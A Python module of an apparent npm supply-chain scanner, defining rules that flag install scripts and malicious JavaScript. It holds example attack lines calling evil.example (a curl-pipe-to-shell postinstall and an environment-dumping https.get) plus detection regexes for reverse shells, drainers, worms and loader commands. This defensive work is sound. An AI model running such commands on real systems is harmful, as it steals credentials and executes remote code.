"""npm rules: lifecycle scripts (PKG014) and JavaScript behaviour (PKG015).

The JavaScript walk (:mod:`..jsscan`) follows ``require``/``import`` aliases, folds strings and
taints values derived from the environment or the host's identity; at each call it hands the
checks below a :class:`JsCall`. A lifecycle script's command is judged by
:func:`install_script`.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any, ClassVar, Protocol

from outwork.analyzers.packages import data as tables
from outwork.analyzers.packages import destinations
from outwork.analyzers.packages.rules.base import BehaviourRule, Variant
from outwork.core.rules import Confidence, Layer, Rule, Severity

C, H, M, L, N = (
    Severity.CRITICAL,
    Severity.HIGH,
    Severity.MEDIUM,
    Severity.LOW,
    Severity.INFO,
)


class NpmInstallScript(Rule):
    """A `package.json` lifecycle script runs code when the package is installed.

    ## What it finds
    `preinstall`, `install`, `postinstall` and `prepare` scripts. Scripts that download, pipe into
    a shell, run encoded commands or start `node` on a file that itself misbehaves are high or
    critical; `node-gyp rebuild` and similar build steps are low.

    `binding.gyp` command expansions (`<!(cmd)`, `<!@(cmd)`): npm builds a package that has a
    `binding.gyp` on install (with or without an install script) and node-gyp runs these
    commands while it configures the build. One that downloads, pipes into a shell or runs an
    encoded command is critical, one that reaches the network high; locating include folders
    (`node -p "require('node-addon-api').include"`) is what they are for and is not reported.

    ## Why it matters
    npm runs these scripts with the user's rights on `npm install`; they are the entry point of
    nearly every malicious npm package.

    ## Example
    ```json
    {"scripts": {"postinstall": "curl https://evil.example/x.sh | sh"}}
    ```

    ## Remediation
    Install with `--ignore-scripts` and review the script; do not install the package if the
    script fetches or hides code.

    ## References
    - npm docs, "scripts": lifecycle operation order
    - MITRE ATT&CK T1195.002 (Compromise Software Supply Chain)
    """

    code = "PKG014"
    name = "npm-install-script"
    layer = Layer.PKG
    severity = Severity.MEDIUM
    confidence = Confidence.MEDIUM
    cwe = (506, 829)
    attack = ("T1195.002", "T1059.007")
    inline_suppressible = False
    #: What a script does -> its severity in ``preinstall``/``install``/``postinstall`` (npm
    #: runs them on every install) and in ``prepare`` (npm runs it only when installing from
    #: git or a local folder, never a tarball from the registry: a git dependency's door).
    scripts: ClassVar[Mapping[str, tuple[Severity, Severity]]] = {
        "downloads, pipes into a shell or runs an encoded command": (C, M),
        "reaches the network or runs inline code": (H, M),
        "runs code": (M, L),
        "runs a build step": (L, L),
    }

    @classmethod
    def markdown(cls) -> str:
        table = [
            "| script | preinstall, install, postinstall | prepare |",
            "| --- | --- | --- |",
            *(f"| {why} | {a.label} | {b.label} |" for why, (a, b) in cls.scripts.items()),
            "",
            "",
        ]
        page = super().markdown()
        at = page.index("## What it finds")
        return page[:at] + "\n".join(table) + page[at:]


class SuspiciousJavaScript(BehaviourRule):
    """JavaScript that executes commands, evaluates decoded code or exfiltrates host data.

    ## What it finds
    From the syntax tree (tree-sitter): `child_process` calls with dangerous commands (an AI
    coding agent started with its approvals off, `claude --dangerously-skip-permissions`,
    `gemini --yolo`, `q chat --trust-all-tools`, counts as one), `eval`, `Function` and `vm` on
    decoded strings (`Buffer.from(x, "base64")`, `atob`), and flows of `process.env`, a `.env`
    file read from disk (the same configured secrets), a private key, browser or wallet store
    read from disk, `os.hostname()`, `os.userInfo()` into `http`/`https` requests (also
    through the request object they return), `fetch` or DNS look-ups.
    Minified and packed code is parsed, not pattern-matched.

    From the module as a whole: a browser-side drainer (`window.fetch`,
    `XMLHttpRequest.prototype.open`/`send` or `window.ethereum`'s methods replaced, in code
    that handles wallet addresses or the wallet provider); a worm (npm's token file or
    variables read, the owner's packages listed, and `npm publish` or the registry's
    publishing API used); workflow files (`.github/workflows/`) written through the GitHub
    contents API; a secret scanner (TruffleHog, Gitleaks, Nosey Parker) downloaded or started
    over the home folder or the whole disk, or with its results sent away; a reverse shell (a
    shell started by `child_process` with its standard streams piped to, or handed as, a
    socket that connects out with `net` or `tls`). Polyfills and test
    mocks that replace `fetch` or `XMLHttpRequest` without touching wallets, release tools that
    publish the one package they run in, and scanners wired into a project's own checks are
    not reported.

    ## Why it matters
    This is what malicious npm packages do in their install scripts and entry points.

    ## Example
    ```js
    https.get("https://evil.example/?d=" + Buffer.from(JSON.stringify(process.env)).toString("hex"))
    ```

    ## Remediation
    Do not install the package; rotate the credentials of the environments where it ran.

    ## References
    - MITRE ATT&CK T1059.007 (JavaScript), T1041 (Exfiltration Over C2 Channel)
    - CWE-506: Embedded Malicious Code
    """

    code = "PKG015"
    name = "suspicious-javascript"
    layer = Layer.PKG
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (506, 95)
    attack = ("T1059.007", "T1041")
    inline_suppressible = False

    #: install, import, in a function of a module loaded on import, only when called
    SHELL = Variant("child_process runs a downloader, shell or encoded command", C, C, C, M)
    NETWORK_COMMAND = Variant("child_process runs a command that reaches the network", H, H, H, L)
    WINDOWS_SHELL = Variant("child_process starts Windows' shell", H, M, M, L)
    PROGRAM = Variant("child_process starts a program", M, L, L, N)
    DECODED_LOADS = Variant("eval, Function or vm runs decoded code that loads modules", C, C, C, H)
    DECODED = Variant("eval, Function or vm runs decoded code", C, H, H, M)
    SENDS_DUMP = Variant(
        "sends the environment, host identity, or to a paste, webhook or raw address", C, C, C, L
    )
    SENDS_SECRET = Variant("sends a configured variable", C, C, M, L)
    SUSPICIOUS_ADDRESS = Variant("contacts a paste site, webhook or raw address", H, H, H, L)
    WALLET_HOOK = Variant(
        "replaces the browser's fetch or XMLHttpRequest, or a wallet provider's methods, in"
        " code that handles wallet addresses (a drainer rewriting destinations)",
        C,
        C,
        C,
        H,
    )
    WORM = Variant(
        "reads npm credentials, lists the owner's packages and publishes (a worm)",
        C,
        C,
        C,
        H,
    )
    WORKFLOW_WRITE = Variant(
        "writes GitHub Actions workflow files through the GitHub API", H, H, H, H
    )
    SECRET_SCANNER = Variant("downloads or starts a secret scanner", H, H, H, M)
    REVERSE_SHELL = Variant(
        "wires a shell's standard streams to a socket that connects out (a reverse shell)",
        C,
        C,
        C,
        H,
    )


#: ``node -e``, ``eval``: inline code in a script.
_INLINE = re.compile(r"\bnode\s+-e\b|\beval\b")
_BENIGN_SCRIPT = re.compile(
    r"^\s*(node-gyp(-build)?( rebuild)?|prebuild-install[^;&|]*|husky( install)?|"
    r"npm run [\w:-]+|tsc[^;&|]*|patch-package|ngcc|is-ci \|\| husky install|"
    r"opencollective[^;&|]*)\s*$"
)


def install_script(hook: str, command: str, loads_only_files: bool) -> tuple[Severity, str]:
    """A lifecycle script's severity and message; ``loads_only_files`` when its inline code
    (``node -e``) does nothing but load files of the package (judged where they are read)."""
    if tables.STRONG_COMMAND_RE.search(command):
        why = "downloads, pipes into a shell or runs an encoded command"
    elif tables.WEAK_COMMAND_RE.search(command) or (
        _INLINE.search(command) and not loads_only_files
    ):
        why = "reaches the network or runs inline code"
    elif _BENIGN_SCRIPT.match(command):
        why = "runs a build step"
    else:
        why = "runs code"
    on_install, on_prepare = NpmInstallScript.scripts[why]
    if hook == "prepare":
        when = "when installed from git or a local folder (not from the registry)"
        return on_prepare, f"{hook} script {why} {when}"
    return on_install, f"{hook} script {why} on npm install"


#: A global network primitive replaced: ``window.fetch = ...``, ``XMLHttpRequest.prototype.open
#: = ...``; or a wallet provider's method (``window.ethereum.request = ...``).
_NETWORK_HOOK = re.compile(
    r"\b(?:window|globalThis|self|global)\s*\.\s*fetch\s*=(?![=>])|"
    r"XMLHttpRequest\s*\.\s*prototype\s*\.\s*(?:open|send|setRequestHeader)\s*=(?![=>])"
)
_PROVIDER_HOOK = re.compile(
    r"\bethereum\s*\.\s*(?:request|send|sendAsync|enable)\s*=(?![=>])|"
    r"new\s+Proxy\s*\(\s*(?:window\s*\.\s*)?ethereum\b|"
    r"defineProperty\s*\(\s*(?:window|globalThis)\s*,\s*['\"`]ethereum['\"`]"
)
#: What a drainer works on: the injected wallet provider, wallet address shapes (Ethereum,
#: Bitcoin bech32, Tron, Solana base58 as regular expressions or literals), signing requests.
_WALLET = re.compile(
    r"\bwindow\s*\.\s*ethereum\b|\bsolana\s*\.\s*signTransaction|eth_sendTransaction|"
    r"0x\[(?:a-fA-F0-9|0-9a-fA-F|a-f0-9|0-9a-f)\]\{40\}|\bbc1\[|\bT\[1-9A-HJ-NP-Za-km-z\]|"
    r"(?<![\w$])0x[a-fA-F0-9]{40}(?![\w$])"
)
#: npm's credentials: the token file, the token variables, and the registry's auth field.
_NPM_CREDENTIAL = re.compile(r"\.npmrc\b|\bNPM_TOKEN\b|_authToken|npm_config__auth")
_NPM_PUBLISH = re.compile(r"\bnpm\s+publish\b|libnpmpublish|/-/package/|\bputPackage\b")
#: The owner's other packages listed: what a worm republishes (a release tool publishes the
#: one package it is run in).
_NPM_ENUMERATE = re.compile(
    r"maintainer:|/-/v1/search|\bnpm\s+access\s+(?:ls-packages|list\s+packages)|"
    r"/-/org/[^'\"`\s]*/package|/-/user/[^'\"`\s]*/package"
)
#: A workflow file written through the GitHub API (the contents endpoint, or octokit's call).
_WORKFLOW_PATH = re.compile(r"\.github/workflows/")
_CONTENTS_API = re.compile(
    r"api\.github\.com/repos/[^'\"`\s]*/contents|/contents/\.github|"
    r"createOrUpdateFileContents|repos\.createOrUpdateFile"
)
#: Secret scanners, whose only use inside an installed package is finding the user's secrets:
#: TruffleHog (github.com/trufflesecurity/trufflehog), Gitleaks (github.com/gitleaks/gitleaks),
#: Nosey Parker (github.com/praetorian-inc/noseyparker), detect-secrets (github.com/Yelp).
_SECRET_SCANNER = re.compile(
    r"\btrufflehog\b|trufflesecurity|\bgitleaks\b|\bnoseyparker\b|\bdetect-secrets\b",
    re.IGNORECASE,
)
#: A scan of the user's home folder or the whole disk, or results sent over the network: what
#: a scanner wired into a project's own checks does not do.
_WHOLE_DISK = re.compile(
    r"homedir\s*\(|process\.env\.(?:HOME|USERPROFILE)\b|['\"`]~/|filesystem\s+/"
)
_SENDS = re.compile(r"\bfetch\s*\(|https?\.request\s*\(|axios\.post|\.post\s*\(|webhook")
#: A reverse shell: a shell started, a socket connecting out, and the two joined by pipes
#: (``sock.pipe(sh.stdin)``, ``sh.stdout.pipe(sock)``) or by handing the socket as the shell's
#: standard streams (``stdio: [sock, sock, sock]``). A terminal server that listens
#: (``net.createServer``) and connects nowhere is no such thing.
_SOCKET_MODULE = re.compile(r"""(?:require\s*\(\s*|from\s+)['"`](?:node:)?(?:net|tls)['"`]""")
_CONNECTS_OUT = re.compile(r"\.\s*(?:connect|createConnection)\s*\(|new\s+[\w$.]*Socket\s*\(")
_SHELL_STARTED = re.compile(
    r"""\b(?:spawn|exec|execFile|spawnSync)\s*\(\s*['"`](?:[\w/\\.:-]*[/\\])?"""
    r"""(?:sh|bash|zsh|dash|ash|ksh|cmd|powershell|pwsh)(?:\.exe)?(?:\s+-i)?['"`]""",
    re.IGNORECASE,
)
_STREAMS_JOINED = re.compile(
    r"\.pipe\s*\(\s*[\w$.]+\.stdin\s*\)|\.(?:stdout|stderr)\s*\.\s*pipe\s*\(\s*[\w$]+\s*\)|"
    r"stdio\s*:\s*\[\s*([\w$]+)\s*,\s*\1\b"
)
_RUNS_OR_FETCHES = re.compile(
    r"child_process|\bexecSync\b|\bspawn\b|\bexec\s*\(|\bfetch\s*\(|https?\.get|releases/download"
)


def module_behaviours(source: str) -> list[tuple[Variant, str, int]]:
    """What a module does as a whole, read from its text (strings survive minification): a
    wallet drainer's hooks, a worm's publishing with found tokens, workflow files written
    through the GitHub API, a secret scanner fetched or started. (variant, message, offset of
    the evidence) for each; the walk grades them by the module's context."""
    found: list[tuple[Variant, str, int]] = []
    hook = _NETWORK_HOOK.search(source) or _PROVIDER_HOOK.search(source)
    if hook is not None and (_PROVIDER_HOOK.search(source) or _WALLET.search(source)):
        found.append(
            (
                SuspiciousJavaScript.WALLET_HOOK,
                "replaces the browser's request functions or the wallet provider in code that"
                " handles wallet addresses",
                hook.start(),
            )
        )
    token = _NPM_CREDENTIAL.search(source)
    publish = _NPM_PUBLISH.search(source)
    if token is not None and publish is not None and _NPM_ENUMERATE.search(source):
        found.append(
            (
                SuspiciousJavaScript.WORM,
                "reads npm credentials, lists the owner's packages and publishes them",
                publish.start(),
            )
        )
    workflow = _WORKFLOW_PATH.search(source)
    if workflow is not None and _CONTENTS_API.search(source):
        found.append(
            (
                SuspiciousJavaScript.WORKFLOW_WRITE,
                "writes a GitHub Actions workflow through the GitHub API",
                workflow.start(),
            )
        )
    scanner = _SECRET_SCANNER.search(source)
    if (
        scanner is not None
        and _RUNS_OR_FETCHES.search(source)
        and (_WHOLE_DISK.search(source) or _SENDS.search(source))
    ):
        found.append(
            (
                SuspiciousJavaScript.SECRET_SCANNER,
                "downloads or starts a secret scanner",
                scanner.start(),
            )
        )
    joined = _STREAMS_JOINED.search(source)
    if (
        joined is not None
        and _SOCKET_MODULE.search(source)
        and _CONNECTS_OUT.search(source)
        and _SHELL_STARTED.search(source)
    ):
        found.append(
            (
                SuspiciousJavaScript.REVERSE_SHELL,
                "wires a shell's standard streams to a socket that connects out (a reverse shell)",
                joined.start(),
            )
        )
    return found


#: A command expansion of a ``.gyp`` file: ``<!(cmd)`` (its output as a string) and
#: ``<!@(cmd)`` (as a list); node-gyp runs them while it configures the build, which npm starts
#: on install for every package with a ``binding.gyp``, install script or not (node-gyp's
#: "Input Format Reference", command expansions).
_GYP_EXPANSION = re.compile(r"<!@?\(")


def gyp_commands(text: str) -> list[tuple[int, str]]:
    """The commands a ``.gyp`` file's expansions run, with their lines (parentheses balanced,
    the rest of the line where they are not)."""
    found: list[tuple[int, str]] = []
    for match in _GYP_EXPANSION.finditer(text):
        depth, end = 1, match.end()
        while end < len(text) and depth and text[end] != "\n":
            depth += {"(": 1, ")": -1}.get(text[end], 0)
            end += 1
        command = text[match.end() : end - 1 if depth == 0 else end]
        found.append((text.count("\n", 0, match.start()) + 1, command.strip()))
        if len(found) >= 200:
            break
    return found


def gyp_command(command: str) -> tuple[Severity, str] | None:
    """A ``binding.gyp`` expansion's severity and message, when it downloads, hides a command
    or reaches the network; locating include folders (``node -p "require('nan')"``) is what
    expansions are for and is not reported."""
    severity, message = install_script("install", command, loads_only_files=True)
    if severity < Severity.HIGH:
        return None
    why = message.removeprefix("install script ").removesuffix(" on npm install")
    return severity, f"binding.gyp command expansion {why} when npm builds the package"


class JsFacts(Protocol):
    """What the JavaScript walk answers about the module it walks."""

    def fold(self, node: Any) -> str | None: ...

    def fold_argument(self, node: Any) -> str:
        """A command argument: a string, or an array of strings joined as the shell would."""
        ...

    def labels(self, node: Any) -> frozenset[str]: ...

    def text(self, node: Any) -> str: ...

    def bound(self, fn: Any) -> bool:
        """Whether the root name of a callee was bound by ``require`` or ``import``."""
        ...

    def holds_object(self, node: Any) -> bool:
        """Whether a value may be an object: one written in it, or a name bound to one."""
        ...

    def emit(
        self,
        variant: Variant,
        node: Any,
        message: str,
        line: int,
        evidence: str,
        relations: tuple[str, ...] = (),
    ) -> None: ...


@dataclass(frozen=True, slots=True)
class JsCall:
    """One call of the walked JavaScript: callee resolved through ``require`` aliases."""

    node: Any
    fn: Any
    callee: str
    args: list[Any]
    line: int
    facts: JsFacts


#: ``taskkill`` aimed at a process id (a child the package started) manages its own processes;
#: by image name (``/IM``) it is how malware stops security software.
_KILL_BY_PID = re.compile(r"\btaskkill\b(?=(?:\s+/\w+)*\s+/pid\b)", re.IGNORECASE)
_POWERSHELL = re.compile(r"\b(?:powershell|pwsh)(?:\.exe)?\b", re.IGNORECASE)
#: What turns a PowerShell command into a loader: hidden windows, policy bypass, decoding,
#: web clients (downloads and ``Invoke-`` commands are strong markers of their own).
_POWERSHELL_RISK = re.compile(
    r"-w(?:indowstyle)?\s+h(?:idden)?\b|bypass|-e(?:nc(?:odedcommand)?)?\s|frombase64|"
    r"webclient|\biex\b|invoke-|start-process|add-type|reflection",
    re.IGNORECASE,
)
#: Windows' shell itself (``cmd.exe /c``): what it runs decides, not that it is started.
_CMD_SHELL = re.compile(r"\bcmd(?:\.exe)?(?:\s+/[cdks]\b)*", re.IGNORECASE)
#: ``require('NAME')`` or ``import('NAME')`` of a module named by a constant, in code that is
#: built from strings: loading a module whose name the code hides.
_NAMED_REQUIRE = re.compile(r"""\b(?:require|import)\s*\(\s*['"`]([^'"`?\s]+)['"`]""")
#: A body that does one thing: hand back a package loaded by name. Bundled code writes
#: ``new Function('return import("vite")')`` to keep an optional dynamic import out of the
#: bundler's graph; the body is written in the file, nothing is decoded. The name is plain
#: characters only: an escape (``\\x63hild_process``) is no plain name.
_ONLY_LOADS = re.compile(
    r"""^\s*return\s+(?:await\s+)?(?:import|require)\s*\(\s*(['"`])([@\w.:/-]+)\1\s*\)\s*;?\s*$"""
)
#: Modules whose handle reaches the host (processes, files, the network, other code): loading
#: one through a body the analysis does not follow further stays critical.
_HOST_MODULES = frozenset(
    {
        "child_process",
        "fs",
        "os",
        "vm",
        "module",
        "process",
        "worker_threads",
        "cluster",
        "inspector",
        "v8",
    }
)
_DECODED_ARGUMENT = re.compile(r"Buffer\.from\([^)]*['\"](base64|hex)['\"]|atob\(")
_EXEC_MEMBERS = frozenset(
    {"exec", "execSync", "spawn", "spawnSync", "execFile", "execFileSync", "fork"}
)
_EVALUATORS = frozenset(
    {"eval", "Function", "vm.runInNewContext", "vm.runInThisContext", "vm.Script"}
)
#: Network modules whose names are also common local names (``request``, ``axios``): their
#: calls count only when the name was bound by ``require``/``import``.
_BOUND_NET_MODULES = frozenset({"axios", "node-fetch", "request"})
_NET_MODULES = frozenset(
    {"http", "https", "dns", "net", "tls", "dgram", "axios", "node-fetch", "request"}
)
#: Modules whose calls build a connection or request object, and those calls.
CONNECTION_MODULES = frozenset({"http", "https", "net", "tls", "dgram", "http2"})
CONNECTION_MAKERS = frozenset(
    {"request", "get", "connect", "createConnection", "Socket", "createSocket"}
)
_NET_MEMBERS = frozenset(
    {
        "request",
        "get",
        "post",
        "lookup",
        "resolve",
        "resolve4",
        "resolveTxt",
        "connect",
        "createConnection",
        "write",
        "end",
        "send",
    }
)


def called(call: JsCall) -> None:
    """A call of the walked JavaScript: a started process, code evaluated, a request."""
    module, _, member = call.callee.rpartition(".")
    if (module.endswith("child_process") and member in _EXEC_MEMBERS) or call.callee in (
        "child_process.exec",
        "child_process.execSync",
    ):
        _starts_process(call, member)
    elif call.callee in _EVALUATORS or (module == "vm" and member.startswith("run")):
        _evaluates(call)
    else:
        root = module.split(".")[0] if module else call.callee
        if root in _BOUND_NET_MODULES and not call.facts.bound(call.fn):
            return
        if call.callee == "fetch" or (
            root in _NET_MODULES and (member in _NET_MEMBERS or not module)
        ):
            _requests(call)


def _starts_process(call: JsCall, member: str) -> None:
    """``child_process``: exec takes a command line and options; spawn and execFile a program
    and its arguments."""
    facts = call.facts
    words = call.args[:1] if member in ("exec", "execSync") else call.args[:2]
    command = " ".join(facts.fold_argument(a) for a in words)
    strength = command_strength(command)
    if strength == "strong":
        variant = SuspiciousJavaScript.SHELL
        what = "runs a downloader, shell or encoded command"
    elif strength == "network":
        variant, what = (
            SuspiciousJavaScript.NETWORK_COMMAND,
            "runs a command that reaches the network",
        )
    elif strength == "shell":
        variant, what = SuspiciousJavaScript.WINDOWS_SHELL, "starts Windows' shell"
    else:
        variant, what = SuspiciousJavaScript.PROGRAM, "starts a program"
        if not command.strip("? "):
            command = facts.text(call.node)
    facts.emit(variant, call.node, f"child_process.{member} {what}", call.line, command)


def _evaluates(call: JsCall) -> None:
    """``eval``, ``Function``, ``vm``: code that only exists after decoding."""
    if not call.args:
        return
    facts = call.facts
    arg_text = facts.text(call.args[0])
    folded = facts.fold(call.args[0])
    if call.args[0].type == "string" and _loads_a_package(arg_text[1:-1]):
        return
    if folded and (_NAMED_REQUIRE.search(folded) or "child_process" in folded):
        facts.emit(
            SuspiciousJavaScript.DECODED_LOADS,
            call.node,
            f"{call.callee} runs decoded code that loads modules",
            call.line,
            folded,
        )
    elif _DECODED_ARGUMENT.search(arg_text):
        facts.emit(
            SuspiciousJavaScript.DECODED,
            call.node,
            f"{call.callee} runs decoded code",
            call.line,
            arg_text,
        )


def _loads_a_package(body: str) -> bool:
    """A body written as one literal that only returns a package loaded by name, a package
    that is not one of the host's own modules (:data:`_HOST_MODULES`, the network's)."""
    match = _ONLY_LOADS.match(body)
    if match is None:
        return False
    root = match.group(2).removeprefix("node:").split("/", 1)[0]
    return root not in _HOST_MODULES and root not in _NET_MODULES


def _requests(call: JsCall) -> None:
    """A request (``http``, ``https``, ``dns``, ``net``, ``fetch``...): what it sends and where."""
    facts = call.facts
    labels: frozenset[str] = frozenset()
    for a in call.args:
        labels |= facts.labels(a)
    texts = " ".join(facts.fold(a) or "" for a in call.args)
    suspicious = destinations.suspicious(texts)
    if labels <= {"host"} and _this_host(call):
        labels = frozenset()  # the user's name in a socket's path leaves no machine
    if labels:
        # one configured variable sent from inside a function is how clients authenticate or
        # find their server; the whole environment, the host's identity, or a variable sent at
        # the top level or to a paste site is not
        facts.emit(
            SuspiciousJavaScript.SENDS_DUMP
            if labels & {"dump", "host", "store"} or suspicious
            else SuspiciousJavaScript.SENDS_SECRET,
            call.node,
            f"{call.callee} sends environment or host data",
            call.line,
            facts.text(call.node),
            relations=("exfiltrates",),
        )
    elif suspicious:
        facts.emit(
            SuspiciousJavaScript.SUSPICIOUS_ADDRESS,
            call.node,
            f"{call.callee} contacts {destinations.describe([texts])}",
            call.line,
            texts,
        )


#: ``net`` calls that open a stream: to a path (a Unix socket, a Windows named pipe) or a port
#: of this host when their address is one value, to another host only through an options
#: object or a host argument.
_CONNECTS = frozenset({"net.connect", "net.createConnection"})


def _this_host(call: JsCall) -> bool:
    """``net.connect(path)``, ``net.connect(port, callback)``: one address that is no options
    object, followed at most by a callback. Node reads a string as a socket path and a number
    as a port on localhost; nothing the address holds leaves the machine (an IPC pipe named
    after the user)."""
    if call.callee not in _CONNECTS or not call.args:
        return False
    first, *rest = call.args
    if any(a.type not in _CALLBACKS for a in rest):
        return False  # a host argument: net.connect(port, host)
    return not call.facts.holds_object(first)


_CALLBACKS = frozenset({"arrow_function", "function_expression", "function"})


def command_strength(command: str) -> str:
    """``strong`` (a downloader, a shell fed from a pipe, an encoded or hidden command),
    ``network`` (reaches the network, installs, persists), ``shell`` (starts Windows' shell on
    arguments that were not worked out) or ``program``. ``?`` stands for the parts of the
    command that could not be worked out."""
    check = _KILL_BY_PID.sub("", command)
    if "?" not in check and not _POWERSHELL_RISK.search(check):
        # PowerShell running a query spelled out in full (a process list, the clipboard)
        check = _POWERSHELL.sub("", check)
    if tables.STRONG_COMMAND_RE.search(check):
        return "strong"
    if tables.WEAK_COMMAND_RE.search(check):
        return "network" if tables.WEAK_COMMAND_RE.search(_CMD_SHELL.sub("", check)) else "shell"
    return "program"
